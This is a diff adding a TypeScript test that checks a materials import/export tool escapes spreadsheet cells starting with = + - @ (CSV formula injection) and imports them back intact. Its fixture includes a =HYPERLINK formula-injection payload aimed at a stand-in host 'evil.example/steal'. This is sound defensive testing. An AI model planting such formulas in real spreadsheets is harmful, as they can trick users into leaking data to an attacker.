@@ -106,6 +106,31 @@ describe('import', () => {
     expect(await app.em().count(Material, {})).toBe(total);
   });
 
+  it('exports cells beginning with = + - @ to CSV as text (a leading apostrophe) and imports them back unchanged, an apostrophe of the data included', async () => {
+    const hostile = {
+      title: '=HYPERLINK("http://evil.example/steal","Открыть")',
+      summary: "'=уже с апострофом в данных",
+      body: '@SUM(1+1)',
+      source: '+7 (913) 000-00-00',
+      url: '-2+3',
+    };
+    await run('hostile.jsonl', line({ externalId: '-formula-1', kind: 'PUBLICATION', ...hostile }));
+    for (const format of ['csv', 'xlsx'] as const) {
+      const out = path.join(dir, `hostile-${format}`, `bank.${format}`);
+      await fs.mkdir(path.dirname(out), { recursive: true });
+      await exportMaterials(app.orm, app.files.config.storage, out, format);
+      if (format === 'csv') {
+        const row = (await fs.readFile(out, 'utf8')).split('\r\n').find((l) => l.includes('evil.example'))!;
+        const start = `'-formula-1;PUBLICATION;PUBLISHED;"'=HYPERLINK(""http://evil.example/steal"",""Открыть"")";''=уже с апострофом в данных;'@SUM(1+1);`;
+        expect(row.slice(0, start.length)).toBe(start);
+        expect(row).toContain(";'+7 (913) 000-00-00;");
+      }
+      const again = await new ImportService(app.orm, app.files.config, { dryRun: false, baseDir: path.dirname(out) }).run(await readImportFile(out));
+      expect(JSON.stringify(again.lines.filter((l) => l.outcome !== 'unchanged'))).toBe('[]');
+      expect(await app.em().findOneOrFail(Material, { externalId: '-formula-1' })).toMatchObject(hostile);
+    }
+  });
+
   it('matches names by surname and initials in either order, ignoring case and ё', () => {
     expect(personKeys('Сёмина Анна Петровна').initials).toBe(personKeys('семина а.п.').initials);
     expect(personKeys('А. П. Семина').initials).toBe(personKeys('Семина Анна Петровна').initials);
